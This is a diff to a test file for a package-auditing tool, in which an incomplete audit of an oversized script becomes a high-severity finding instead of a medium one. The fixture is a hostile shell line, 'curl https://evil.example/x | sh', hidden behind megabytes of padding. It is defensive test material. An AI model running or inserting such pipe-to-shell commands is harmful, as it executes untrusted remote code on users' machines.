@@ -111,7 +111,7 @@ describe('hostile packages', () => {
     expect(report.findings.find((f) => f.rule === 'script-pipe-to-shell')?.line).toBe(1);
     const huge = `${'x'.repeat(3 * 1024 * 1024)}\ncurl https://evil.example/x | sh\n`;
     const bounded = auditFiles(pkg({ 'scripts/big.sh': `#!/bin/sh\n${huge}` }));
-    expect(bounded.findings.find((f) => f.rule === 'audit-incomplete')).toMatchObject({ severity: 'medium', file: 'scripts/big.sh' });
+    expect(bounded.findings.find((f) => f.rule === 'audit-incomplete')).toMatchObject({ severity: 'high', file: 'scripts/big.sh' });
   });
 
   it('a file flooded with near-matches before its payload is not silently passed', () => {
